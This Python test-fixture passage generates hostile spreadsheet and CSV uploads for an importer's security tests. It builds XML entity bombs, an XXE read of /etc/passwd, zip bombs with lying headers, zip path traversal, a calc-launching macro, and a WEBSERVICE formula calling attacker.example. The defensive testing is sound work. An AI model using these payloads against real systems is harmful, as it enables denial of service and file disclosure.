"""Hostile upload files built by code (nothing big is committed): bombs, disguises, odd text.

Each file says what must happen to it: ``read`` (its rows are imported as the seeds' numbers)
or ``rejected`` with one of its error codes. ``bomb`` files are also run in a child process
whose peak memory growth is measured. The store the tests use holds the two seed agencies
(see ``test_hostile.py``), so a file that is read gives 2 rows for fiscal year 2569.
"""

from __future__ import annotations

import functools
import io
import random
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from xml.sax.saxutils import escape

from import_corpus import THUNG_PHUENG_2568, csv_bytes, seed_wide_rows
from openpyxl.utils import get_column_letter

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
XML_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


@dataclass(frozen=True)
class Hostile:
    """One hostile file: how to build it, how to import it and what must happen."""

    file_name: str
    build: Callable[[], bytes]
    outcome: str  # "read" or "rejected"
    codes: frozenset[str] = frozenset()
    rows: int = 2
    kwargs: dict = field(default_factory=lambda: {"year": 2569})
    env: dict = field(default_factory=dict)
    bomb: bool = False
    why: str = ""
    seconds: float = 30.0
    """Time allowed to analyse it: a safety bound against hangs, 5 s for the files of
    issue 17 (a hostile file is refused, or read, within 5 s)."""


# --- a hand-written xlsx, so every part can be bent ---------------------------------------------

def cell_xml(value, row: int, col: int, *, refs: bool = True, shared: dict | None = None) -> str:
    ref = f' r="{get_column_letter(col + 1)}{row}"' if refs else ""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return f"<c{ref}><v>{value}</v></c>"
    text = str(value)
    if isinstance(value, str) and value.startswith("="):
        return f"<c{ref}><f>{escape(text[1:])}</f></c>"
    if shared is not None:
        index = shared.setdefault(text, len(shared))
        return f'<c{ref} t="s"><v>{index}</v></c>'
    return f'<c{ref} t="inlineStr"><is><t xml:space="preserve">{escape(text)}</t></is></c>'


def sheet_xml(rows: list[list], *, refs: bool = True, shared: dict | None = None,
              dimension: str | None = None, after_data: str = "") -> bytes:
    body = []
    for r, row in enumerate(rows, 1):
        cells = "".join(cell_xml(v, r, c, refs=refs, shared=shared) for c, v in enumerate(row))
        body.append(f'<row r="{r}">{cells}</row>' if refs else f"<row>{cells}</row>")
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (XML_HEAD + f'<worksheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">{dim}<sheetData>'
            .encode() + "".join(body).encode() + b"</sheetData>" + after_data.encode()
            + b"</worksheet>")


def shared_strings_xml(shared: dict) -> bytes:
    items = "".join(f"<si><t>{escape(t)}</t></si>" for t in shared)
    return (XML_HEAD + f'<sst xmlns="{MAIN_NS}" count="{len(shared)}" uniqueCount="{len(shared)}">'
            f"{items}</sst>".encode())


def package(sheets: list[tuple[str, bytes, str]], *, shared: bytes | None = None,
            parts: dict[str, bytes] | None = None, workbook_extra: str = "",
            macro: bool = False, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A workbook of ``sheets`` (name, sheet XML, state: visible/hidden/veryHidden)."""
    main_type = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else
                 "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    overrides = [f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>']
    sheet_entries, rels = [], []
    for i, (name, _, state) in enumerate(sheets, 1):
        state_attr = f' state="{state}"' if state != "visible" else ""
        sheet_entries.append(f'<sheet name="{escape(name, {chr(34): "&quot;"})}" sheetId="{i}"'
                             f'{state_attr} r:id="rId{i}"/>')
        rels.append(f'<Relationship Id="rId{i}" Type="{SHEET_TYPE}" Target="worksheets/sheet{i}.xml"/>')
        overrides.append(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType='
                         '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
    if shared is not None:
        rels.append('<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/'
                    '2006/relationships/sharedStrings" Target="sharedStrings.xml"/>')
        overrides.append('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                         'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
    content_types = (XML_HEAD + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                     b'content-types"><Default Extension="rels" ContentType="application/'
                     b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
                     b'ContentType="application/xml"/><Default Extension="bin" ContentType='
                     b'"application/vnd.ms-office.vbaProject"/>' + "".join(overrides).encode()
                     + b"</Types>")
    root_rels = (XML_HEAD + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                 b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                 b'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
                 b"</Relationships>")
    workbook = (XML_HEAD + f'<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>'
                f'{"".join(sheet_entries)}</sheets>{workbook_extra}</workbook>'.encode())
    workbook_rels = (XML_HEAD + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                     b'2006/relationships">' + "".join(rels).encode() + b"</Relationships>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as out:
        out.writestr("[Content_Types].xml", content_types)
        out.writestr("_rels/.rels", root_rels)
        out.writestr("xl/workbook.xml", workbook)
        out.writestr("xl/_rels/workbook.xml.rels", workbook_rels)
        for i, (_, xml, _) in enumerate(sheets, 1):
            out.writestr(f"xl/worksheets/sheet{i}.xml", xml)
        if shared is not None:
            out.writestr("xl/sharedStrings.xml", shared)
        for name, data in (parts or {}).items():
            out.writestr(name, data)
    return buffer.getvalue()


def seed_rows() -> list[list]:
    """The two seed agencies as a wide table with tools (0–100), total and level."""
    return seed_wide_rows(points=False)


def seed_workbook(rows: list[list] | None = None, *, name: str = "ผลการประเมิน",
                  shared_strings: bool = True, **kwargs) -> bytes:
    shared: dict | None = {} if shared_strings else None
    xml = sheet_xml(rows or seed_rows(), shared=shared)
    return package([(name, xml, "visible")],
                   shared=shared_strings_xml(shared) if shared is not None else None, **kwargs)


def rewrite(data: bytes, change: Callable[[str, bytes], bytes | None], *,
            method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The archive with each part passed through ``change`` (None drops the part)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as out:
        for info in source.infolist():
            content = change(info.filename, source.read(info.filename))
            if content is not None:
                out.writestr(info.filename, content)
    return buffer.getvalue()


def _entities(depth: int = 9, fan: int = 10) -> bytes:
    return b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1)) * fan) for i in range(1, depth + 1))


def _laughs_in(part: str, root: bytes, *, prefix: bytes = b"", encoding: str | None = None
               ) -> bytes:
    """Billion laughs declared in ``part`` (whose root element is ``root``), used in a cell."""
    def change(name: str, content: bytes) -> bytes:
        if name != part:
            return content
        body = content[content.index(b"?>") + 2:]
        if part.endswith("sharedStrings.xml"):
            body = body.replace(escape("ลำดับ").encode(), b"&lol9;", 1)
        else:
            body = body.replace(b"<v>1</v>", b"<v>&lol9;</v>", 1)
        head = b'<?xml version="1.0" encoding="%s"?>' % (encoding or "UTF-8").encode()
        xml = head + prefix + b"<!DOCTYPE " + root + b" [" + _entities() + b"]>" + body
        return xml.decode().encode(encoding) if encoding else xml
    return rewrite(seed_workbook(), change)


def _external_entity() -> bytes:
    def change(name: str, content: bytes) -> bytes:
        if name != "xl/sharedStrings.xml":
            return content
        body = content[content.index(b"?>") + 2:].replace(escape("ลำดับ").encode(), b"&xxe;", 1)
        return (b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                + body)
    return rewrite(seed_workbook(), change)


def _quadratic_blowup() -> bytes:
    """One 50 KB entity referenced 20,000 times (1 GB of text, no nesting)."""
    def change(name: str, content: bytes) -> bytes:
        if name != "xl/sharedStrings.xml":
            return content
        body = content[content.index(b"?>") + 2:].replace(
            escape("ลำดับ").encode(), b"&a;" * 20_000, 1)
        return b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "' + b"a" * 50_000 + b'">]>' + body
    return rewrite(seed_workbook(), change)


# --- zip bombs ---------------------------------------------------------------------------------

def _stream_part(out: zipfile.ZipFile, name: str, chunks) -> None:
    with out.open(name, "w", force_zip64=True) as part:
        for chunk in chunks:
            part.write(chunk)


def _with_big_sheet(chunks: Callable[[], object], *, level: int = 6) -> bytes:
    """The seed workbook whose sheet XML is replaced by a stream of ``chunks``."""
    source = zipfile.ZipFile(io.BytesIO(seed_workbook(shared_strings=False)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as out:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                _stream_part(out, info.filename, chunks())
            else:
                out.writestr(info.filename, source.read(info.filename))
    return buffer.getvalue()


def _sheet_head() -> bytes:
    return XML_HEAD + f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode()


def _blank_bomb() -> bytes:
    """200 MB of whitespace inside the sheet (compresses ~1000:1)."""
    def chunks():
        yield _sheet_head()
        block = b" " * 1_048_576
        for _ in range(200):
            yield block
        yield b"</sheetData></worksheet>"
    return _with_big_sheet(chunks, level=1)


def _varied_rows(n_rows: int, *, refs: bool) -> Callable[[], object]:
    """A sheet of ``n_rows`` rows with different numbers in them (compresses ~10:1)."""
    def chunks():
        yield _sheet_head()
        batch = []
        for r in range(1, n_rows + 1):
            if refs:
                batch.append(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>{r * 7 % 1000}'
                             f"</v></c></row>")
            else:
                batch.append(f"<row><c><v>{r}</v></c><c><v>{r * 7 % 1000}</v></c></row>")
            if len(batch) == 20_000:
                yield "".join(batch).encode()
                batch = []
        yield "".join(batch).encode() + b"</sheetData></worksheet>"
    return chunks


def _wide_row(n_cols: int, *, refs: bool) -> bytes:
    """The seed sheet with a row of ``n_cols`` cells under it."""
    if refs:
        cells = "".join(f'<c r="{get_column_letter(c + 1)}10"><v>{c}</v></c>' for c in range(n_cols))
        row = f'<row r="10">{cells}</row>'
    else:
        row = "<row>" + "<c><v>1</v></c>" * n_cols + "</row>"
    return sheet_xml(seed_rows(), refs=refs).replace(b"</sheetData>",
                                                      row.encode() + b"</sheetData>")


def _lying_sizes() -> bytes:
    """A sheet that inflates to 200 MB while its zip headers declare 900 bytes."""
    data = bytearray(_blank_bomb())
    # The central directory entry: file_size (uncompressed) at offset 24 of the record.
    index = data.find(b"xl/worksheets/sheet1.xml", data.find(b"PK\x01\x02"))
    record = index - 46
    assert data[record:record + 4] == b"PK\x01\x02"
    if struct.unpack_from("<I", data, record + 24)[0] == 0xFFFFFFFF:
        extra_start = index + struct.unpack_from("<H", data, record + 28)[0]
        struct.pack_into("<Q", data, extra_start + 4, 900)
    else:
        struct.pack_into("<I", data, record + 24, 900)
    return bytes(data)


def _many_entries() -> bytes:
    parts = {f"xl/media/image{i}.png": b"x" for i in range(5000)}
    return seed_workbook(parts=parts)


def _zip_encrypted_flag() -> bytes:
    """The sheet's entry marked as encrypted (zip's general-purpose bit 0)."""
    data = bytearray(seed_workbook())
    name = b"xl/worksheets/sheet1.xml"
    pos = 0
    while True:
        pos = data.find(name, pos)
        if pos < 0:
            break
        if data[pos - 30:pos - 26] == b"PK\x03\x04":
            data[pos - 30 + 6] |= 1
        if data[pos - 46:pos - 42] == b"PK\x01\x02":
            data[pos - 46 + 8] |= 1
        pos += 1
    return bytes(data)


def _unknown_compression() -> bytes:
    """The sheet's entry stored with compression method 99 (AES), which no reader here has."""
    data = bytearray(seed_workbook())
    name = b"xl/worksheets/sheet1.xml"
    pos = 0
    while True:
        pos = data.find(name, pos)
        if pos < 0:
            break
        if data[pos - 30:pos - 26] == b"PK\x03\x04":
            struct.pack_into("<H", data, pos - 30 + 8, 99)
        if data[pos - 46:pos - 42] == b"PK\x01\x02":
            struct.pack_into("<H", data, pos - 46 + 10, 99)
        pos += 1
    return bytes(data)


def _cfb_encrypted() -> bytes:
    """What Excel writes for a password-protected .xlsx: a CFB container, not a zip."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHH", header, 24, 0x3E, 3, 0xFFFE)
    body = "EncryptionInfo".encode("utf-16-le") + b"\x00" * 50 + "EncryptedPackage".encode("utf-16-le")
    return bytes(header) + body + bytes(random.Random(8).randrange(256) for _ in range(4000))


# --- odd content ---------------------------------------------------------------------------------

def _renamed(rows_change: Callable[[list[list]], None] | None = None, **kwargs) -> bytes:
    rows = [list(r) for r in seed_rows()]
    if rows_change:
        rows_change(rows)
    return seed_workbook(rows, **kwargs)


def _set(row: int, col: int, value):
    def change(rows: list[list]) -> None:
        rows[row][col] = value
    return change


def _with_macros() -> bytes:
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"Module1\"\nSub Auto_Open()\n" \
        b"Shell \"cmd /c calc\"\nEnd Sub\n" + b"\x00" * 400
    return seed_workbook(parts={"xl/vbaProject.bin": vba}, macro=True)


def _external_links() -> bytes:
    """Scores whose cells are formulas into another workbook, with their values saved."""
    rows = [list(r) for r in seed_rows()]
    sheet = sheet_xml(rows).replace(
        b"<v>98.29</v>", b"<f>[1]Sheet1!A1</f><v>98.29</v>", 1)
    link = (XML_HEAD + f'<externalLink xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><externalBook '
            'r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
            "</externalLink>".encode())
    link_rels = (XML_HEAD + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                 b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                 b'officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/secret/'
                 b'other.xlsx" TargetMode="External"/></Relationships>')
    return package([("ผลการประเมิน", sheet, "visible")],
                   parts={"xl/externalLinks/externalLink1.xml": link,
                          "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels},
                   workbook_extra='<externalReferences><externalReference r:id="rIdX"/>'
                                  "</externalReferences>")


def _formulas_with_values() -> bytes:
    sheet = sheet_xml(seed_rows()).replace(
        b"<v>96.47</v>", b"<f>0.3*AVERAGE(E2:I2)+0.3*AVERAGE(J2:L2)+0.4*AVERAGE(M2:N2)</f>"
        b"<v>96.47</v>", 1).replace(b"<v>98.29</v>", b"<f>98+0.29</f><v>98.29</v>", 1)
    return package([("ผลการประเมิน", sheet, "visible")])


def _dangerous_formula_no_value() -> bytes:
    sheet = sheet_xml(seed_rows()).replace(
        b"<v>98.29</v>", b'<f>WEBSERVICE("http://attacker.example/x")</f>', 1)
    return package([("ผลการประเมิน", sheet, "visible")])


def _sheets_with_states(data_state: str, decoy: bool) -> bytes:
    sheets = [("ซ่อน", sheet_xml([list(r) for r in seed_rows()]), data_state)]
    if decoy:
        rows = [list(r) for r in seed_rows()]
        sheets.insert(0, ("ผลการประเมิน", sheet_xml(rows), "visible"))
        # The hidden sheet's scores differ: they must not be the ones imported.
        hidden = [list(r) for r in seed_rows()]
        hidden[1][4] = 1
        sheets[1] = ("ซ่อน", sheet_xml(hidden), data_state)
    return package(sheets)


def _rows_without_refs() -> bytes:
    return package([("ผลการประเมิน", sheet_xml(seed_rows(), refs=False), "visible")])


def _long_cell() -> bytes:
    return _renamed(_set(1, 1, "ทต." + "ก" * 100_000))


def _long_note() -> bytes:
    rows = [list(r) + ["หมายเหตุ"] if i == 0 else list(r) + ["ข้อความ " * 12_500]
            for i, r in enumerate(seed_rows())]
    return seed_workbook(rows)


def _invisible_marks() -> bytes:
    rows = [list(r) for r in seed_rows()]
    rows[1][1] = "\u200fทต.ทุ่ง\u200bผึ้ง\u202e\u2066\u00ad"
    rows[2][1] = "\ufeffอบต.\u200dหนองปลาหมอ\u200e\x07"
    rows[2][3] = "ขอน\u200bแก่น"
    return seed_workbook(rows)


def _new_agency_with_marks() -> bytes:
    rows = [list(r) for r in seed_rows()]
    rows[2][1] = "อบต.\u202eโนน\u200bศิลา\u2067\u061c\x1b"
    rows[2][2] = "โนนศิลา"
    return seed_workbook(rows)


def _csv_quotes_newlines() -> bytes:
    rows = [list(r) for r in seed_rows()]
    rows[0].append("หมายเหตุ")
    rows[1].append('ข้อความ "ยาว"\nสองบรรทัด, มีจุลภาค')
    rows[2].append('=HYPERLINK("http://x")\r\n"')
    rows[1][1] = "ทต.\nทุ่งผึ้ง"
    return csv_bytes(rows)


def _csv_mixed_encodings() -> bytes:
    text = csv_bytes(seed_rows(), "utf-8").decode("utf-8").splitlines(keepends=True)
    return text[0].encode("utf-8") + text[1].encode("cp874") + text[2].encode("utf-8")


def _csv_utf16(encoding: str, bom: bytes) -> Callable[[], bytes]:
    def build() -> bytes:
        return bom + csv_bytes(seed_rows(), "utf-8").decode("utf-8").encode(encoding)
    return build


def _csv_nul_bytes() -> bytes:
    return csv_bytes(seed_rows(), "utf-8").replace(b"\n", b"\x00\n")


def _csv_million_rows() -> bytes:
    header = csv_bytes(seed_rows(), "utf-8")
    return header + b"".join(b"x,%d\n" % i for i in range(1_000_000))


def _csv_wide() -> bytes:
    header = csv_bytes(seed_rows(), "utf-8").splitlines()
    return b"\n".join(h + b"," * 16_000 for h in header) + b"\n"


def _csv_one_huge_field() -> bytes:
    return b'"' + b"a" * 3_000_000 + b'"\n'


def _huge_upload() -> bytes:
    head = csv_bytes(seed_rows(), "utf-8")
    return head + b"#" * (21 * 1_048_576)


def _pdf() -> bytes:
    return (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            + bytes(random.Random(3).randrange(256) for _ in range(3000)) + b"\n%%EOF\n")


def _garbage(seed: int, size: int, head: bytes = b"") -> Callable[[], bytes]:
    def build() -> bytes:
        rnd = random.Random(seed)
        return head + bytes(rnd.randrange(256) for _ in range(size))
    return build


def _very_long_sheet_name() -> bytes:
    return seed_workbook(name="ผลการประเมิน" + "ก" * 10_000)


def _rtl_sheet_name() -> bytes:
    return seed_workbook(name="\u202eผล\x01การประเมิน\u200b")


def _duplicate_headers() -> bytes:
    rows = [list(r) + [v] for r, v in zip(seed_rows(), ["ตัวชี้วัดที่ 1", 50, 50])]
    return seed_workbook(rows)


def _shared_string_count(attribute: bytes) -> Callable[[], bytes]:
    """The shared strings part declaring 2e9 strings in ``attribute`` (count or uniqueCount)."""
    def build() -> bytes:
        def change(name: str, content: bytes) -> bytes:
            if name != "xl/sharedStrings.xml":
                return content
            return re.sub(rb"\b" + attribute + rb'="\d+"', attribute + b'="2000000000"', content)
        return rewrite(seed_workbook(), change)
    return build


def _dimension_lie() -> bytes:
    return package([("ผลการประเมิน", sheet_xml(seed_rows(), dimension="A1:XFD1048576"), "visible")])


def _huge_merge() -> bytes:
    sheet = sheet_xml(seed_rows(), after_data='<mergeCells count="1"><mergeCell ref="D2:D1048576"/>'
                      "</mergeCells>")
    return package([("ผลการประเมิน", sheet, "visible")])


def _bad_shared_index() -> bytes:
    def change(name: str, content: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return content
        return content.replace(b't="s"><v>1</v>', b't="s"><v>99999999</v>', 1)
    return rewrite(seed_workbook(), change)


def _deep_nesting() -> bytes:
    sheet = sheet_xml(seed_rows()).replace(b"</sheetData>", b"</sheetData>" + b"<x>" * 100_000
                                           + b"</x>" * 100_000)
    return package([("ผลการประเมิน", sheet, "visible")])


def _path_traversal() -> bytes:
    data = seed_workbook()

    def change(name: str, content: bytes) -> bytes:
        if name == "xl/_rels/workbook.xml.rels":
            return content.replace(b"worksheets/sheet1.xml", b"../../../../etc/passwd")
        return content
    return rewrite(data, change)


def _many_sheets() -> bytes:
    sheets = [(f"s{i}", sheet_xml([["ไม่มีตาราง", i]]), "visible") for i in range(300)]
    sheets.append(("ผลการประเมิน", sheet_xml(seed_rows()), "visible"))
    return package(sheets)


def _strings_as_scores_with_dates() -> bytes:
    rows = [list(r) for r in seed_rows()]
    sheet = sheet_xml(rows).replace(b"<v>98.29</v>", b'<v>98.29</v>', 1)
    # A date-typed cell in an indicator column (ISO date, t="d").
    sheet = sheet.replace(b"<c r=\"F2\"><v>99.15</v></c>", b'<c r="F2" t="d"><v>2025-09-30</v></c>')
    return package([("ผลการประเมิน", sheet, "visible")])


def _error_cells() -> bytes:
    sheet = sheet_xml(seed_rows()).replace(b"<c r=\"F2\"><v>99.15</v></c>",
                                           b'<c r="F2" t="e"><v>#DIV/0!</v></c>')
    return package([("ผลการประเมิน", sheet, "visible")])


def _nan_inf_text() -> bytes:
    return _renamed(_set(1, 5, "inf"))


def _year_out_of_range() -> bytes:
    rows = [["ปีงบประมาณ", *r] for r in seed_rows()]
    rows[1][0], rows[2][0] = "99999", "-2568"
    rows = [rows[0]] + [r for r in rows[1:]]
    return seed_workbook([[c if c is not None else None for c in r] for r in rows])


def _scores_as_strings_with_nbsp() -> bytes:
    rows = [list(r) for r in seed_rows()]
    rows[1][4:14] = [f"\u00a0{v}\u200b " for v in THUNG_PHUENG_2568]
    return seed_workbook(rows)


# --- issue 17: spellings the size scan missed, merges, the sniffer, long headers, commas ----------

def _with_far_cell(row_xml: str, *, prefixed: bool = False) -> Callable[[], bytes]:
    """The seed workbook with ``row_xml`` (one far cell) added at the end of its sheet data."""
    def build() -> bytes:
        sheet = _prefixed(sheet_xml(seed_rows())) if prefixed else sheet_xml(seed_rows())
        end = b"</x:sheetData>" if prefixed else b"</sheetData>"
        return package([("ผลการประเมิน", sheet.replace(end, row_xml.encode() + end), "visible")])
    return build


def _prefixed(xml: bytes) -> bytes:
    """The sheet with every element in the main namespace under an ``x:`` prefix."""
    head, body = xml.split(b"?>", 1)
    body = re.sub(rb"<(/?)(?=[A-Za-z])", rb"<\1x:", body)
    return head + b"?>" + body.replace(f'xmlns="{MAIN_NS}"'.encode(), f'xmlns:x="{MAIN_NS}"'.encode())


def _overlapping_merges(count: int) -> bytes:
    """``count`` copies of one merge down 100,000 rows (a sheet Excel would refuse to open):
    filling each row of each merge took 18 s for 3,000 of them, past 300 s for 30,000."""
    merges = '<mergeCell ref="C3:C100000"/>' * count
    sheet = sheet_xml(seed_rows(), after_data=f'<mergeCells count="{count}">{merges}</mergeCells>')
    sheet = sheet.replace(b"</sheetData>",
                          b'<row r="100000"><c r="A100000"><v>0</v></c></row></sheetData>')
    return package([("ผลการประเมิน", sheet, "visible")])


def _sniffer_killer() -> bytes:
    """A 63 KB first line that csv.Sniffer's quote patterns scan once per character (15–28 s,
    holding the GIL), then the seed table."""
    return b';"x' * 21_000 + b"\n" + csv_bytes(seed_rows(), "utf-8")


def _long_thai_text(size: int) -> str:
    """``size`` characters of Thai words in random order (compresses about 4:1, as real text)."""
    words = ["ตัวชี้วัด", "หน่วยงาน", "คะแนน", "การประเมิน", "จังหวัด", "อำเภอ", "ระดับ", "ผ่าน",
             "คุณธรรม", "ความโปร่งใส", "ปีงบประมาณ", "ข้อมูล", "สาธารณะ", "ทุจริต", "๑๒๓", "ปี"]
    rnd = random.Random(17)
    return " ".join(rnd.choice(words) for _ in range(size // 5))[:size]


def _header_cells(count: int) -> bytes:
    """The seed table whose header row ends in a cell of a million characters, or with
    ``count`` cells of it in the rows above (one shared string: 120 of them are 120 million
    characters from a file of about 1 MB)."""
    text = _long_thai_text(1_000_000)
    rows = [list(r) for r in seed_rows()]
    if count == 1:
        rows[0].append(text)
        return seed_workbook(rows)
    per_row = 4
    return seed_workbook([[text] * per_row for _ in range(count // per_row)] + rows)


def _comma_text(value):
    if isinstance(value, float) and not isinstance(value, bool):
        return f"{value:.2f}".replace(".", ",")
    return value


def _comma_rows() -> list[list]:
    """The seed table with every fractional number written with a decimal comma ("98,29")."""
    return [list(r) if i == 0 else [_comma_text(v) for v in r] for i, r in enumerate(seed_rows())]


def _comma_mixed() -> list[list]:
    """Decimal commas where one cell of a column could be a thousands group ("1,000") and
    another column mixes commas and points: no reading is safe."""
    rows = _comma_rows()
    rows[2][4] = "1,000"
    rows[1][9] = "96.22"
    return rows


# --- the corpus ------------------------------------------------------------------------------------

def _h(file_name, build, outcome, codes=(), **kwargs) -> Hostile:
    return Hostile(file_name, build, outcome, frozenset(codes), **kwargs)


def _h5(file_name, build, outcome, codes=(), **kwargs) -> Hostile:
    """A file of issue 17: refused (or read) within 5 s."""
    return _h(file_name, build, outcome, codes, seconds=FIVE_SECONDS, **kwargs)


FIVE_SECONDS = 5.0
"""Issue 17: a hostile file is refused (or read) within 5 s, and never takes the process down."""

BOMB_MEMORY_MB = 300
"""Peak memory growth allowed while a bomb is read (a safety bound, not a budget)."""


@functools.cache
def hostile_files() -> dict[str, Hostile]:
    """Test id → :class:`Hostile`."""
    unsafe = ("unsafe_xml", "damaged")
    files = [
        # XML attacks
        _h("xml_bomb_shared_strings.xlsx",
           lambda: _laughs_in("xl/sharedStrings.xml", b"sst"), "rejected", unsafe, bomb=True),
        _h("xml_bomb_sheet.xlsx", lambda: _laughs_in("xl/worksheets/sheet1.xml", b"worksheet"),
           "rejected", unsafe, bomb=True),
        _h("xml_bomb_workbook.xlsx", lambda: _laughs_in("xl/workbook.xml", b"workbook"),
           "rejected", unsafe, bomb=True),
        _h("xml_bomb_after_long_comment.xlsx",
           lambda: _laughs_in("xl/sharedStrings.xml", b"sst",
                              prefix=b"<!--" + b"x" * 10_000 + b"-->"),
           "rejected", unsafe, bomb=True, why="the DTD comes after the first 4 KB"),
        _h("xml_bomb_utf16.xlsx",
           lambda: _laughs_in("xl/sharedStrings.xml", b"sst", encoding="utf-16"),
           "rejected", unsafe, bomb=True, why="a UTF-16 part hides the DTD from a byte search"),
        _h("xml_external_entity.xlsx", _external_entity, "rejected", unsafe),
        _h("xml_quadratic_blowup.xlsx", _quadratic_blowup, "rejected", unsafe, bomb=True),
        _h("xml_deep_nesting.xlsx", _deep_nesting, "read", bomb=True),
        # zip attacks
        _h("zip_bomb_200mb_blanks.xlsx", _blank_bomb, "rejected", ("zip_bomb",), bomb=True),
        _h("zip_bomb_lying_sizes.xlsx", _lying_sizes, "rejected", ("zip_bomb", "damaged"),
           bomb=True, why="headers declare 900 bytes for 200 MB"),
        _h("zip_many_entries.xlsx", _many_entries, "rejected", ("zip_bomb",)),
        _h("zip_entry_encrypted.xlsx", _zip_encrypted_flag, "rejected", ("damaged", "encrypted")),
        _h("zip_unknown_compression.xlsx", _unknown_compression, "rejected", ("damaged",)),
        _h("zip_path_traversal.xlsx", _path_traversal, "rejected", ("damaged", "no_data", "empty")),
        _h("rows_million_with_refs.xlsx", lambda: _with_big_sheet(_varied_rows(1_000_000, refs=True)),
           "rejected", ("too_many_rows",), bomb=True),
        _h("rows_million_without_refs.xlsx",
           lambda: _with_big_sheet(_varied_rows(1_000_000, refs=False)),
           "rejected", ("too_many_rows",), bomb=True, why="rows without r= attributes"),
        _h("columns_16000.xlsx", lambda: package([("ผลการประเมิน", _wide_row(16_000, refs=True),
                                                    "visible")]),
           "rejected", ("too_many_columns",), bomb=True),
        _h("columns_16000_without_refs.xlsx",
           lambda: package([("ผลการประเมิน", _wide_row(16_000, refs=False), "visible")]),
           "rejected", ("too_many_columns",), bomb=True),
        _h("shared_string_unique_count_lie.xlsx", _shared_string_count(b"uniqueCount"),
           "rejected", ("unsafe_xml",), bomb=True,
           why="uniqueCount=2e9 made calamine reserve 48 GB and abort the process"),
        _h("shared_string_count_high.xlsx", _shared_string_count(b"count"), "read", bomb=True,
           why="count (references, not distinct strings) may exceed the part's size"),
        _h("dimension_lie.xlsx", _dimension_lie, "read", bomb=True,
           why="<dimension A1:XFD1048576> must not be preallocated"),
        _h("merge_to_last_row.xlsx", _huge_merge, "read", bomb=True),
        _h("huge_upload.csv", _huge_upload, "rejected", ("too_large",), bomb=True),
        # disguises
        _h("macros.xlsm", _with_macros, "read", why="values read, the macro never runs"),
        _h("macros_renamed.xlsx", _with_macros, "read"),
        _h("external_links.xlsx", _external_links, "read",
           why="the saved value is read; the linked file is never opened"),
        _h("formulas_with_saved_values.xlsx", _formulas_with_values, "read"),
        _h("formula_webservice_without_value.xlsx", _dangerous_formula_no_value, "rejected",
           ("formula_without_value",)),
        _h("pdf_renamed.xlsx", _pdf, "rejected", ("not_xlsx",)),
        _h("password_protected.xlsx", _cfb_encrypted, "rejected", ("unsupported_format",)),
        _h("garbage.xlsx", _garbage(1, 5000), "rejected", ("not_xlsx",)),
        _h("garbage_zip_magic.xlsx", _garbage(2, 5000, b"PK\x03\x04"), "rejected", ("damaged",)),
        _h("garbage.csv", _garbage(4, 5000), "rejected", ("unreadable",)),
        _h("empty.xlsx", lambda: b"", "rejected", ("empty",)),
        _h("whitespace_only.xlsx", lambda: b" \r\n\t " * 100, "rejected", ("empty",)),
        # sheets
        _h("very_hidden_decoy.xlsx", lambda: _sheets_with_states("veryHidden", True), "read",
           why="the very hidden sheet's other scores are not imported"),
        _h("only_hidden_sheet.xlsx", lambda: _sheets_with_states("hidden", False), "rejected",
           ("no_data",)),
        _h("very_long_sheet_name.xlsx", _very_long_sheet_name, "read"),
        _h("rtl_control_sheet_name.xlsx", _rtl_sheet_name, "read"),
        _h("many_sheets.xlsx", _many_sheets, "read"),
        _h("rows_without_refs.xlsx", _rows_without_refs, "read"),
        # cells
